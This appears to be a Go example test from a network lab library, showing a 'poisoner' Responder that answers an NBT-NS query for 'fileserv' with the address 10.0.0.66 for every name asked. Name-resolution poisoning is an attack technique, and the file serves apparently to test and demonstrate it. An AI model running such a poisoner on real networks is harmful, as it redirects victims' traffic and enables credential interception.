package winname_test

import (
	"fmt"
	"net/netip"

	"github.com/tlslab/tlslab/actors/winname"
)

// A Windows host asks NBT-NS for a name DNS denied, and a poisoner answers.
func ExampleResponder_AnswerNBNS() {
	name, _ := winname.NetBIOSNameFor("fileserv", winname.SuffixWorkstation)
	query, _ := winname.NewNBNSQuery(0x8001, name).Marshal()
	fmt.Printf("query:  % x\n", query[:12])

	poisoner, _ := winname.NewResponder(winname.ResponderConfig{
		Addr:   netip.MustParseAddr("10.0.0.66"),
		Policy: winname.AnswerEveryName,
	})
	wire, asked, ok := poisoner.AnswerNBNS(query)
	resp, _ := winname.ParseNBNS(wire)
	fmt.Println(asked, ok, resp.Answers[0].Addrs, resp.Answers[0].TTL)
	// Output:
	// query:  80 01 01 10 00 01 00 00 00 00 00 00
	// FILESERV<00> true [10.0.0.66] 300000
}
